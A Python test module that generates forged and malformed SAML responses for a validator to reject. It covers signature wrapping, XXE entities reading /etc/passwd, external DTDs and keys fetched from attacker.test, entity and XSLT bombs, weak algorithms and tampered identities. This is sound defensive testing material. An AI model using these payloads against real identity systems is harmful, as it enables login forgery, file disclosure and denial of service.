"""Messages that must be refused, and by which check.

The sections follow the project's list of attacks. Profile errors are signed like any good message, so that nothing
but the check in question can refuse them.
"""

import wrapping
from messages import *


def cases(case):
    unsigned(case)
    wrapping.cases(case)
    placement(case)
    shape(case)
    algorithms(case)
    keys(case)
    tampering(case)
    documents(case)
    encodings(case)
    envelope(case)
    assertions(case)
    subjects(case)
    conditions_(case)
    statements(case)
    encryption(case)


def unsigned(case):
    plain = response(assertion(signed=False))
    case("unsigned", plain, "signature_present", "nothing is signed")
    case("unsigned-no-certificates", plain, "signing_certificate", "nothing is signed, and there is nothing to verify with", certificates=[])
    case("signed-no-certificates", assertion_signed(), "signing_certificate", "signed, but there is nothing to verify with", certificates=[])
    stripped = re.sub(r"<ds:Signature .*?</ds:Signature>", "", assertion_signed(), flags=re.S)
    case("signature-removed", stripped, "signature_present", "the signature was cut out")
    case("signature-in-comment", re.sub(r"(<ds:Signature .*?</ds:Signature>)", r"<!--\1-->", assertion_signed(), flags=re.S), "signature_present", "the signature is a comment")
    case("signature-in-cdata", re.sub(r"(<ds:Signature .*?</ds:Signature>)", r"<![CDATA[\1]]>", assertion_signed(), flags=re.S), "signature_present", "the signature is text")
    case("signature-in-other-namespace", assertion_signed().replace(f'xmlns:ds="{DS}"', 'xmlns:ds="http://www.w3.org/2000/09/xmldsig"'), "signature_present", "the signature is in another namespace")
    case("empty-signature", response(assertion()).replace("{{_assertion-1}}", f'<ds:Signature xmlns:ds="{DS}"/>'), "signature_shape", "a signature without content")


def placement(case):
    def moved(name, where, note):
        made = assertion_signed()
        found = re.search(r"<ds:Signature .*?</ds:Signature>", made, re.S).group()
        case(name, where(made.replace(found, ""), found), "signature_placement", note)

    moved("signature-in-subject", lambda xml, s: xml.replace("<saml:Subject>", "<saml:Subject>" + s), "moved into the subject")
    moved("signature-in-status", lambda xml, s: xml.replace("</samlp:Status>", f"<samlp:StatusDetail>{s}</samlp:StatusDetail></samlp:Status>"), "moved into the status")
    moved("signature-in-extensions", lambda xml, s: xml.replace("<samlp:Status>", f"<samlp:Extensions>{s}</samlp:Extensions><samlp:Status>"), "moved into the extensions")
    moved("signature-in-attribute", lambda xml, s: xml.replace("</saml:AttributeStatement>", f'<saml:Attribute Name="x"><saml:AttributeValue>{s}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>'), "moved into an attribute")
    moved("signature-in-advice", lambda xml, s: xml.replace("</saml:Conditions>", f"</saml:Conditions><saml:Advice>{s}</saml:Advice>"), "moved into advice")
    moved("signature-in-confirmation-data", lambda xml, s: xml.replace(f'InResponseTo="{REQUEST}"/>', f'InResponseTo="{REQUEST}">{s}</saml:SubjectConfirmationData>', 1), "moved into the confirmation data")
    moved("signature-in-issuer", lambda xml, s: xml.replace(f"<saml:Assertion", s + "<saml:Assertion").replace("<saml:Issuer>", "<saml:Issuer><x/>", 0).replace("</saml:Conditions>", s + "</saml:Conditions>"), "one in conditions, one around")
    moved("two-signatures-in-assertion", lambda xml, s: xml.replace("<saml:Subject>", s + s.replace("<ds:Signature ", "<ds:Signature ") + "<saml:Subject>"), "two in the assertion")
    both = both_signed()
    found = re.findall(r"<ds:Signature .*?</ds:Signature>", both, re.S)
    case("two-signatures-in-response", both.replace("<samlp:Status>", found[0] + "<samlp:Status>"), "signature_placement", "two in the response")
    case("nested-signature", re.sub(r"(</ds:KeyInfo>)(</ds:Signature>)", lambda m: m[1] + found[0] + m[2], assertion_signed()), "signature_placement", "a signature in a signature")
    case("signature-in-key-info", assertion_signed().replace("<ds:X509Data>", found[0] + "<ds:X509Data>"), "signature_placement", "a signature in KeyInfo")


def shape(case):
    """What the signature says of itself. Text is replaced after signing, for the form is judged first."""
    signed = assertion_signed()

    def changed(name, note, *pairs, expect="signature_shape"):
        xml = signed
        for old, new in pairs:
            assert old in xml, (name, old)
            xml = xml.replace(old, new, 1)
        case(name, xml, expect, note)

    uri = 'URI="#_assertion-1"'
    for name, value, note in [
        ("uri-empty", 'URI=""', "the whole document"),
        ("uri-absent", "", "no reference to speak of"),
        ("uri-response", 'URI="#_response-1"', "another element"),
        ("uri-unknown", 'URI="#_nobody"', "nothing"),
        ("uri-hash", 'URI="#"', "the empty fragment"),
        ("uri-http", 'URI="http://attacker.test/x#_assertion-1"', "a document that would have to be fetched"),
        ("uri-https", 'URI="https://attacker.test/assertion.xml"', "the same, encrypted"),
        ("uri-file", 'URI="file:///etc/passwd"', "a file"),
        ("uri-relative", 'URI="assertion.xml"', "a file beside"),
        ("uri-cid", 'URI="cid:assertion"', "an attachment, whose digest a library may leave unchecked"),
        ("uri-xpointer-root", 'URI="#xpointer(/)"', "the whole document, by XPointer"),
        ("uri-xpointer-id", "URI=\"#xpointer(id('_assertion-1'))\"", "the element, by XPointer, with comments"),
        ("uri-padded", 'URI="# _assertion-1"', "an id with a space"),
        ("uri-encoded", 'URI="#%5Fassertion-1"', "an encoded id"),
        ("uri-namespaced", 'x:URI="#_assertion-1" xmlns:x="urn:x"', "the attribute is in a namespace"),
    ]:
        changed(name, note, (uri, value))
    changed("uri-twice-by-namespace", "a second URI that some libraries read instead", (uri, 'x:URI="#_response-1" xmlns:x="urn:x" ' + uri))
    reference = re.search(r"<ds:Reference .*?</ds:Reference>", signed, re.S).group()
    changed("two-references", "a second reference", (reference, reference * 2))
    changed("no-reference", "no reference", (reference, ""))
    changed("reference-to-second-element", "a second reference, elsewhere", (reference, reference + reference.replace("_assertion-1", "_response-1")))
    enveloped = f'<ds:Transform Algorithm="{ENVELOPED}"/>'
    exclusive = f'<ds:Transform Algorithm="{EXC}"/>'
    assert enveloped in signed and exclusive in signed
    xpath = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath xmlns:saml="%s">not(ancestor-or-self::saml:Subject)</ds:XPath></ds:Transform>' % SAML
    filter2 = '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*</f:XPath></ds:Transform>'
    bomb = "".join(f'<xsl:template name="t{n}"><xsl:call-template name="t{n + 1}"/><xsl:call-template name="t{n + 1}"/></xsl:template>' for n in range(40))
    xslt = f'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:call-template name="t0"/></xsl:template>{bomb}<xsl:template name="t40">x</xsl:template></xsl:stylesheet></ds:Transform>'
    changed("transform-xpath", "leaves the subject out of what is signed", (exclusive, xpath + exclusive))
    changed("transform-xpath-alone", "the same in place of the canonicalization", (exclusive, xpath))
    changed("transform-xpath-filter2", "leaves everything out", (exclusive, filter2 + exclusive))
    changed("transform-xslt-bomb", "a style sheet that computes for minutes", (exclusive, xslt))
    changed("transform-xslt-first", "the same before the enveloped signature", (enveloped, xslt + enveloped))
    changed("transform-base64", "decodes base64", (exclusive, '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>'))
    changed("transform-decryption", "decrypts before verifying", (exclusive, '<ds:Transform Algorithm="http://www.w3.org/2002/07/decrypt#XML"/>'))
    changed("transform-str", "a security token reference", (exclusive, '<ds:Transform Algorithm="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform"/>'))
    changed("transform-c14n11", "a canonicalization that is not on the list", (exclusive, '<ds:Transform Algorithm="http://www.w3.org/2006/12/xml-c14n11"/>'))
    changed("transform-without-enveloped", "does not leave the signature out", (enveloped, ""))
    changed("transform-twice-enveloped", "leaves it out twice", (enveloped, enveloped * 2))
    changed("transform-order", "the wrong order", (enveloped + exclusive, exclusive + enveloped))
    changed("transform-none", "an empty list", (enveloped + exclusive, ""))
    changed("transforms-absent", "no list", (PLAIN, ""))
    changed("transform-forty", "forty canonicalizations", (exclusive, exclusive * 40))
    changed("transform-without-algorithm", "a transform without a name", (exclusive, "<ds:Transform/>"))
    changed("transform-enveloped-with-child", "a parameter where there is none", (enveloped, enveloped.replace("/>", "><x/></ds:Transform>")))
    changed("transform-foreign-element", "an element that is no transform", (exclusive, "<x/>" + exclusive))
    changed("c14n-unknown", "an unknown canonicalization of SignedInfo", (f'CanonicalizationMethod Algorithm="{EXC}"', 'CanonicalizationMethod Algorithm="urn:x"'))
    changed("c14n-xslt", "a style sheet as the canonicalization of SignedInfo", (f'<ds:CanonicalizationMethod Algorithm="{EXC}"/>', '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><x/></ds:CanonicalizationMethod>'))
    changed("object", "a ds:Object", ("</ds:KeyInfo>", "</ds:KeyInfo><ds:Object>x</ds:Object>"))
    changed("manifest", "a ds:Manifest", ("</ds:KeyInfo>", "</ds:KeyInfo><ds:Object><ds:Manifest>" + reference + "</ds:Manifest></ds:Object>"))
    info = re.search(r"<ds:SignedInfo>.*?</ds:SignedInfo>", signed, re.S).group()
    changed("two-signed-infos", "the library may verify one and read the other", (info, info + info.replace("_assertion-1", "_response-1")))
    changed("signed-info-in-object", "the same, hidden", ("</ds:KeyInfo>", f"</ds:KeyInfo><ds:Object>{info}</ds:Object>"))
    changed("two-signature-values", "two values", ("<ds:SignatureValue>", "<ds:SignatureValue>AAAA</ds:SignatureValue><ds:SignatureValue>"))
    changed("two-key-infos", "two KeyInfo", ("</ds:KeyInfo>", "</ds:KeyInfo><ds:KeyInfo/>"))
    changed("comment-in-digest-value", "a comment that splits the digest, as in xml-crypto", ("<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->"))
    changed("comment-in-signature-value", "a comment in the value", ("<ds:SignatureValue>", "<ds:SignatureValue><!-- -->"))
    changed("comment-in-signed-info", "a comment in SignedInfo", ("<ds:SignedInfo>", "<ds:SignedInfo><!-- -->"))
    changed("element-in-digest-value", "an element in the digest", ("<ds:DigestValue>", "<ds:DigestValue><x/>"))
    changed("hmac-output-length", "a parameter that once truncated signatures to nothing", (f'<ds:SignatureMethod Algorithm="{RSA_SHA256}"/>', f'<ds:SignatureMethod Algorithm="{RSA_SHA256}"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>'))
    changed("algorithm-namespaced", "a second algorithm that some libraries read instead", ("<ds:SignatureMethod ", '<ds:SignatureMethod xmlns:x="urn:x" x:Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1" '))
    changed("foreign-element-in-signature", "an element of another namespace", ("</ds:SignedInfo>", "</ds:SignedInfo><x/>"))
    changed("assertion-without-id", "nothing that could be signed", ('ID="_assertion-1"', ""), expect="unique_ids")
    changed("assertion-id-empty", "an empty id", ('ID="_assertion-1"', 'ID=""'), expect="unique_ids")
    changed("assertion-id-no-ncname", "an id with a colon", ('ID="_assertion-1"', 'ID="a:b"'), expect="unique_ids")
    changed("assertion-id-namespaced", "the id is in a namespace", ('ID="_assertion-1"', 'x:ID="_assertion-1" xmlns:x="urn:x"'), expect="unique_ids")


def algorithms(case):
    signed = assertion_signed()
    for name, uri in [
        ("rsa-sha1", DS + "rsa-sha1"),
        ("rsa-md5", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
        ("rsa-ripemd160", "http://www.w3.org/2001/04/xmldsig-more#rsa-ripemd160"),
        ("rsa-pss", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"),
        ("rsa-sha224", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha224"),
        ("dsa-sha1", DS + "dsa-sha1"),
        ("dsa-sha256", "http://www.w3.org/2009/xmldsig11#dsa-sha256"),
        ("ecdsa-sha1", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"),
        ("hmac-sha1", DS + "hmac-sha1"),
        ("hmac-sha256", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
        ("unknown", "urn:x"),
        ("empty", ""),
        ("padded", " " + RSA_SHA256),
    ]:
        case(f"method-{name}", signed.replace(f'SignatureMethod Algorithm="{RSA_SHA256}"', f'SignatureMethod Algorithm="{uri}"'), "signature_algorithm", f"signature method {name}")
    for name, uri in [
        ("sha1", DS + "sha1"),
        ("md5", "http://www.w3.org/2001/04/xmldsig-more#md5"),
        ("sha224", "http://www.w3.org/2001/04/xmldsig-more#sha224"),
        ("unknown", "urn:x"),
    ]:
        case(f"digest-{name}", signed.replace(f'DigestMethod Algorithm="{SHA256}"', f'DigestMethod Algorithm="{uri}"'), "signature_algorithm", f"digest method {name}")
    case("truly-signed-rsa-sha1", assertion_signed(sign_options={"method": DS + "rsa-sha1"}), "signature_algorithm", "a good signature with SHA-1")
    case("truly-digested-sha1", assertion_signed(sign_options={"digest": DS + "sha1"}), "signature_algorithm", "a good signature over a SHA-1 digest")
    case("response-sha1-assertion-sha256", sign(sign(response(assertion(), signed=True), "_assertion-1"), "_response-1", digest=DS + "sha1"), "signature_algorithm", "the outer of two signatures with SHA-1")
    case("ecdsa-method-rsa-keys", assertion_signed(sign_options={"key": "idp-ec", "method": "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"}), "signing_certificate", "ECDSA where the connection has RSA keys only", certificates=["idp"])
    case("rsa-method-ec-keys", assertion_signed(), "signing_certificate", "RSA where the connection has an EC key only", certificates=["idp-ec"])
    case("rsa-value-as-ecdsa", signed.replace(f'SignatureMethod Algorithm="{RSA_SHA256}"', 'SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"'), "signature_valid", "the method of another kind of key")
    case("rsa-sha512-claimed", signed.replace(f'SignatureMethod Algorithm="{RSA_SHA256}"', 'SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha512"'), "signature_valid", "a stronger method than was used")


def keys(case):
    own = f"<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{certificate('idp')}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"
    numbers = private("attacker").public_key().public_numbers()
    b64 = lambda n: base64.b64encode(n.to_bytes((n.bit_length() + 7) // 8, "big")).decode()
    value = f"<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{b64(numbers.n)}</ds:Modulus><ds:Exponent>{b64(numbers.e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>"
    for kind, make in [("assertion", assertion_signed), ("response", response_signed)]:
        case(f"foreign-key-{kind}", make(sign_options={"key": "attacker"}), "signature_valid", "a key that nobody trusts, its certificate in KeyInfo")
        case(f"foreign-key-own-certificate-{kind}", make(sign_options={"key": "attacker", "key_info": ""}).replace("</ds:SignatureValue>", "</ds:SignatureValue>" + own), "signature_valid", "the same, with the identity provider's certificate in KeyInfo")
        case(f"foreign-key-value-{kind}", make(sign_options={"key": "attacker", "key_info": ""}).replace("</ds:SignatureValue>", "</ds:SignatureValue>" + value), "signature_valid", "the same, as a bare key")
        case(f"other-organization-{kind}", make(sign_options={"key": "other-idp"}), "signature_valid", "the identity provider of another organization")
        case(f"weak-key-{kind}", make(sign_options={"key": "weak"}), "signature_valid", "an RSA key of 1024 bits")
    case("our-own-key", assertion_signed(sign_options={"key": "sp"}), "signature_valid", "our own signing key is no identity provider's")
    case("rotated-away", assertion_signed(), "signature_valid", "a key that the connection no longer has", certificates=["idp-next"])
    case("foreign-response-good-assertion", sign(sign(response(assertion(), signed=True), "_assertion-1"), "_response-1", "attacker"), "signature_valid", "a good assertion in a response that another signed")
    case("good-response-foreign-assertion", sign(sign(response(assertion(), signed=True), "_assertion-1", "attacker"), "_response-1"), "signature_valid", "a good response around an assertion that another signed")
    retrieval = '<ds:KeyInfo><ds:RetrievalMethod URI="http://attacker.test/key" Type="http://www.w3.org/2000/09/xmldsig#X509Data"/></ds:KeyInfo>'
    case("key-to-be-fetched", assertion_signed(sign_options={"key": "attacker", "key_info": ""}).replace("</ds:SignatureValue>", "</ds:SignatureValue>" + retrieval), "signature_valid", "a key that would have to be fetched")


def tampering(case):
    signed, whole, both = assertion_signed(), response_signed(), both_signed()
    for kind, xml in [("assertion", signed), ("response", whole), ("both", both)]:
        for name, old, new in [
            ("name-id", "alice@example.test</saml:NameID>", "admin@example.test</saml:NameID>"),
            ("name-id-suffix", "alice@example.test</saml:NameID>", "alice@example.test.evil</saml:NameID>"),
            ("name-id-format", f'Format="{EMAIL}"', f'Format="{PERSISTENT}"'),
            ("attribute", ">admins<", ">owners<"),
            ("attribute-name", 'Name="groups"', 'Name="roles"'),
            ("attribute-added", "</saml:AttributeStatement>", '<saml:Attribute Name="role"><saml:AttributeValue>owner</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>'),
            ("session-index", "_session-1", "_session-2"),
            ("digest", "<ds:DigestValue>", "<ds:DigestValue>AAAA"),
            ("white-space", "<saml:Subject>", "<saml:Subject> "),
        ]:
            assert old in xml
            case(f"tampered-{name}-{kind}", xml.replace(old, new), "signature_valid", f"{name} changed after signing ({kind})")
        value = re.search(r"<ds:SignatureValue>(.*?)</ds:SignatureValue>", xml, re.S).group(1)
        case(f"signature-value-empty-{kind}", xml.replace(value, ""), "signature_valid", "an empty value")
        case(f"signature-value-short-{kind}", xml.replace(value, "AAAA"), "signature_valid", "a short value")
        case(f"signature-value-no-base64-{kind}", xml.replace(value, "?" + value[1:]), "signature_valid", "no base64")
        case(f"signature-value-flipped-{kind}", xml.replace(value, ("A" if value[0] != "A" else "B") + value[1:]), "signature_valid", "one character changed")
    case("unsigned-response-fields-both", both.replace('IssueInstant="2026-03-01T11:59:30Z" Destination', 'IssueInstant="2026-03-01T11:59:31Z" Destination'), "signature_valid", "the response changed, the assertion good")
    case("id-changed", signed.replace("_assertion-1", "_assertion-2"), "signature_valid", "the id and the reference changed")
    case("namespace-aliased", signed.replace('xmlns:saml="' + SAML + '" ID', 'xmlns:saml="' + SAML + '" xmlns:extra="urn:extra" extra:a="1" ID'), "signature_valid", "an attribute added to the assertion")
    case("signature-of-another-assertion", signed.replace(re.search(r"<ds:SignedInfo>.*</ds:SignatureValue>", signed, re.S).group(), re.search(r"<ds:SignedInfo>.*</ds:SignatureValue>", assertion_signed(name=name_id("bob@example.test")), re.S).group()), "signature_valid", "a signature taken from another assertion")


def documents(case):
    signed = assertion_signed()
    body = lambda prolog: prolog + signed
    case("doctype", body("<!DOCTYPE x>"), "doctype", "a document type")
    case("doctype-lower-case", body("<!doctype x>"), "doctype", "in lower case")
    case("doctype-external", body('<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd">'), "doctype", "one that would be fetched")
    case("doctype-file", body('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "doctype", "a file as an entity")
    case("doctype-parameter-entity", body('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/p">%p;]>'), "doctype", "a parameter entity")
    case("doctype-attribute-default", body('<!DOCTYPE x [<!ATTLIST saml:Assertion ID CDATA "_assertion-1">]>'), "doctype", "a default attribute")
    case("doctype-id-type", body("<!DOCTYPE x [<!ATTLIST saml:NameID Format ID #IMPLIED>]>"), "doctype", "an attribute made an id")
    laughs = "".join(f'<!ENTITY l{n} "{("&l%d;" % (n - 1)) * 10 if n else "lol"}">' for n in range(10))
    case("billion-laughs", body(f"<!DOCTYPE x [{laughs}]>").replace("alice@", "&l9;@"), "doctype", "entities of entities")
    case("quadratic-blowup", body(f'<!DOCTYPE x [<!ENTITY a "{"a" * 2000}">]>').replace("alice@", "&a;" * 200 + "@"), "doctype", "one entity many times")
    case("entity-undeclared", signed.replace("alice@", "&alice;@"), "doctype", "an entity that nobody declared")
    case("entity-in-attribute", signed.replace('Name="email"', 'Name="&e;"'), "doctype", "the same in an attribute")
    case("entity-html", signed.replace("alice@", "&nbsp;@"), "doctype", "an entity of HTML")
    case("doctype-inside", signed.replace("<saml:Subject>", "<!DOCTYPE x><saml:Subject>"), "doctype", "in the middle")
    case("pi-prolog", body("<?xml-stylesheet href='http://attacker.test/x.xsl'?>"), "processing_instruction", "a style sheet")
    case("pi-name-id", signed.replace("alice@", "alice<?x y?>@"), "processing_instruction", "an instruction that splits the identifier")
    case("pi-end", signed + "<?x?>", "processing_instruction", "at the end")
    case("pi-late-declaration", "\n<?xml version='1.0'?>" + signed, "processing_instruction", "a declaration that is not first")
    case("pi-second-declaration", "<?xml version='1.0'?><?xml version='1.0'?>" + signed, "processing_instruction", "a second declaration")
    case("two-roots", signed + signed, "well_formed", "two documents")
    case("two-roots-second-evil", signed + response(assertion(id="_x", signed=False), id="_y"), "well_formed", "a second, unsigned document")
    case("text-after-root", signed + "x", "well_formed", "text after the end")
    case("text-before-root", "x" + signed, "well_formed", "text before the start")
    case("cdata-after-root", signed + "<![CDATA[]]>", "well_formed", "CDATA after the end")
    case("empty", "", "well_formed", "nothing")
    case("white-space-only", "  \n ", "well_formed", "nothing but space")
    case("not-xml", "SAMLResponse", "well_formed", "no XML at all")
    case("json", '{"NameID": "alice"}', "well_formed", "JSON")
    case("html", "<html><body><p>Sign in</html>", "well_formed", "a page")
    for share in (10, 50, 90, 99):
        case(f"truncated-{share}", signed[: len(signed) * share // 100], "well_formed", f"cut at {share} %")
    case("truncated-end-tag", signed[: -len("</samlp:Response>")], "well_formed", "the last end tag is missing")
    case("end-tags-crossed", signed.replace("</saml:Subject></saml:Assertion>", "").replace("</saml:NameID>", "</saml:Subject>", 1), "well_formed", "end tags out of order")
    case("duplicate-attribute", signed.replace('ID="_assertion-1"', 'ID="_assertion-1" ID="_other"', 1), "well_formed", "an attribute twice")
    case("duplicate-attribute-by-namespace", signed.replace('ID="_assertion-1"', 'xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="2" ID="_assertion-1"', 1), "well_formed", "the same through two prefixes")
    case("undeclared-prefix", signed.replace("<saml:Subject>", "<none:x/><saml:Subject>"), "well_formed", "a prefix without a namespace")
    case("undeclared-attribute-prefix", signed.replace('Name="email"', 'none:a="1" Name="email"'), "well_formed", "the same for an attribute")
    case("prefix-to-nothing", signed.replace("<saml:Subject>", '<saml:Subject xmlns:q="">'), "well_formed", "a prefix bound to nothing")
    for name, declaration in [("xml-rebound", 'xmlns:xml="urn:x"'), ("xmlns-declared", 'xmlns:xmlns="urn:x"'), ("other-prefix-for-xml", 'xmlns:q="http://www.w3.org/XML/1998/namespace"'), ("default-is-xmlns", 'xmlns="http://www.w3.org/2000/xmlns/"')]:
        case(f"namespace-{name}", signed.replace("<saml:Subject>", f"<saml:Subject {declaration}>"), "well_formed", "a namespace declaration that the standard forbids")
    case("bad-name", signed.replace("<saml:Subject>", "<1x/><saml:Subject>"), "well_formed", "a name that begins with a digit")
    case("raw-ampersand", signed.replace("alice@", "al&ice@"), "well_formed", "a bare ampersand")
    case("reference-to-null", signed.replace("alice@", "&#0;alice@"), "well_formed", "the null character")
    case("reference-to-surrogate", signed.replace("alice@", "&#xD800;alice@"), "well_formed", "half a character")
    case("reference-too-large", signed.replace("alice@", "&#x110000;alice@"), "well_formed", "beyond Unicode")
    case("cdata-end-in-text", signed.replace("alice@", "]]>alice@"), "well_formed", "the end of CDATA in text")
    case("double-hyphen-in-comment", signed.replace("<saml:Subject>", "<!-- a -- b --><saml:Subject>"), "well_formed", "two hyphens in a comment")
    case("id-collision-xml-id", signed.replace("<samlp:Status>", '<samlp:Status xml:id="_assertion-1">'), "unique_ids", "the same id, by another name")
    case("id-collision-lower-case", signed.replace("<samlp:Status>", '<samlp:Status id="_assertion-1">'), "unique_ids", "the same id in lower case")
    case("id-collision-mixed-case", signed.replace("<samlp:Status>", '<samlp:Status Id="_assertion-1">'), "unique_ids", "the same id in mixed case")
    case("id-collision-saml1", signed.replace("<samlp:Status>", '<samlp:Status AssertionID="_assertion-1">'), "unique_ids", "the same id by the name of SAML 1.1")
    case("id-collision-namespaced", signed.replace("<samlp:Status>", '<samlp:Status xmlns:x="urn:x" x:ID="_assertion-1">'), "unique_ids", "the same id in a namespace")
    case("id-collision-response", signed.replace('ID="_response-1"', 'ID="_assertion-1"'), "unique_ids", "the response has the id of the assertion")


def encodings(case):
    signed = assertion_signed()
    case("utf-16-le", b"\xff\xfe" + signed.encode("utf-16-le"), "encoding", "UTF-16")
    case("utf-16-be", b"\xfe\xff" + signed.encode("utf-16-be"), "encoding", "UTF-16, the other way round")
    case("utf-16-no-mark", signed.encode("utf-16-le"), "well_formed", "UTF-16 without a mark: null characters")
    case("utf-32", signed.encode("utf-32"), "encoding", "UTF-32")
    case("byte-order-mark", b"\xef\xbb\xbf" + signed.encode(), "encoding", "a mark before the text")
    case("latin-1-bytes", signed.replace("alice@", "alicé@").encode("latin-1"), "encoding", "Latin-1")
    for name in ("ISO-8859-1", "UTF-16", "UTF-7", "US-ASCII", "windows-1252", "ebcdic-cp-us", ""):
        case(f"declared-{name.lower() or 'empty'}", f'<?xml version="1.0" encoding="{name}"?>' + signed, "encoding", f"says {name!r}")
    case("declared-version-1-1", '<?xml version="1.1"?>' + signed, "encoding", "XML 1.1, which has other characters")
    case("declared-unknown", '<?xml version="1.0" x="y"?>' + signed, "encoding", "a declaration that says more")
    case("overlong-utf-8", signed.encode().replace(b"alice@", b"al\xc1\xa9ce@"), "encoding", "an overlong form")
    case("utf-8-surrogate", signed.encode().replace(b"alice@", b"\xed\xa0\x80@"), "encoding", "half a character")
    case("null-byte", signed.encode().replace(b"alice@", b"alice\x00@"), "well_formed", "a null byte in the identifier")
    case("control-character", signed.replace("alice@", "alice\x08@"), "well_formed", "a control character")
    case("mark-in-the-middle", signed.replace("alice@", "\ufeffalice@"), "signature_valid", "the mark inside is a character like others")


def envelope(case):
    """What the response says around its assertion, each wrong by itself, in a response that is well signed."""
    for name, options, expect, note in [
        ("version-1-1", {"version": "1.1"}, "version", "SAML 1.1"),
        ("version-absent", {"version": None}, "version", "no version"),
        ("version-2", {"version": "2"}, "version", "2 is not 2.0"),
        ("destination-other", {"destination": "https://other.example.test/acs"}, "destination", "sent to another"),
        ("destination-empty", {"destination": ""}, "destination", "sent to nobody"),
        ("destination-slash", {"destination": ACS + "/"}, "destination", "almost this address"),
        ("destination-query", {"destination": ACS + "?x=1"}, "destination", "this address and a query"),
        ("destination-case", {"destination": ACS.upper()}, "destination", "in capitals"),
        ("destination-prefix", {"destination": ACS[:-1]}, "destination", "the beginning of this address"),
        ("destination-http", {"destination": ACS.replace("https", "http")}, "destination", "without encryption"),
        ("destination-absent-signed", {"destination": None}, "destination", "a signed response must say it"),
        ("destination-other-connection", {"destination": ACS[:-1] + "2"}, "destination", "the address of another connection"),
        ("issuer-other", {"issuer": "https://other-idp.example.test/saml"}, "response_issuer", "another identity provider"),
        ("issuer-empty", {"issuer": ""}, "response_issuer", "nobody"),
        ("issuer-absent-signed", {"issuer_xml": ""}, "response_issuer", "a signed response must say it"),
        ("issuer-twice", {"issuer_xml": f"<saml:Issuer>{IDP}</saml:Issuer><saml:Issuer>x</saml:Issuer>"}, "response_issuer", "two"),
        ("issuer-element", {"issuer_xml": f"<saml:Issuer>{IDP}<x/></saml:Issuer>"}, "response_issuer", "an element in it"),
        ("issuer-format", {"issuer_xml": f'<saml:Issuer Format="{EMAIL}">{IDP}</saml:Issuer>'}, "response_issuer", "the name of something else"),
        ("issuer-prefix", {"issuer": IDP + ".evil.test"}, "response_issuer", "begins like it"),
        ("request-other", {"request": "_req-other"}, "response_in_response_to", "answers another request"),
        ("request-absent", {"request": None}, "response_in_response_to", "answers none"),
        ("request-empty", {"request": ""}, "response_in_response_to", "answers the empty id"),
        ("request-prefix", {"request": REQUEST[:-1]}, "response_in_response_to", "the beginning of the id"),
        ("issued-long-ago", {"instant": "2026-03-01T11:30:00Z"}, "issue_instant", "half an hour old"),
        ("issued-years-ago", {"instant": "2006-03-01T12:00:00Z"}, "issue_instant", "twenty years old"),
        ("issued-in-the-future", {"instant": "2026-03-01T12:10:00Z"}, "issue_instant", "ten minutes ahead"),
        ("issued-far-future", {"instant": "9999-12-31T23:59:59Z"}, "issue_instant", "at the end of time"),
        ("issued-absent", {"instant": None}, "issue_instant", "no time"),
        ("issued-no-time", {"instant": "yesterday"}, "issue_instant", "no time at all"),
        ("issued-date-only", {"instant": "2026-03-01"}, "issue_instant", "a date"),
        ("issued-number", {"instant": "1772366400"}, "issue_instant", "a number"),
        ("status-requester", {"status_xml": status("urn:oasis:names:tc:SAML:2.0:status:Requester")}, "status", "we asked for what there is not"),
        ("status-denied", {"status_xml": status("urn:oasis:names:tc:SAML:2.0:status:Responder", "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed", "not assigned")}, "status", "authentication failed, yet with an assertion"),
        ("status-second-success", {"status_xml": status("urn:oasis:names:tc:SAML:2.0:status:Responder", SUCCESS)}, "status", "success in the wrong place"),
        ("status-absent", {"status_xml": ""}, "status", "no status"),
        ("status-twice", {"status_xml": status() + status("urn:oasis:names:tc:SAML:2.0:status:Responder")}, "status", "two"),
        ("status-code-twice", {"status_xml": status().replace("</samlp:Status>", f'<samlp:StatusCode Value="x"/></samlp:Status>')}, "status", "two codes"),
        ("status-empty", {"status_xml": "<samlp:Status/>"}, "status", "no code"),
        ("status-case", {"status_xml": status(SUCCESS.lower())}, "status", "in lower case"),
        ("name-logout-response", {"name": "LogoutResponse"}, "root_element", "a logout response"),
        ("name-artifact-response", {"name": "ArtifactResponse"}, "root_element", "an artifact response"),
        ("name-lower-case", {"name": "response"}, "root_element", "in lower case"),
    ]:
        xml = response(assertion(), **options)
        signed = "-signed" in name
        if signed:
            xml = response_signed(options)
        else:
            xml = sign(xml, "_assertion-1")
        case(f"response-{name}", xml, expect, note)
        if not signed and options.get("name") is None:
            case(f"response-{name}-whole", response_signed(options), expect, note + "; the response is signed")
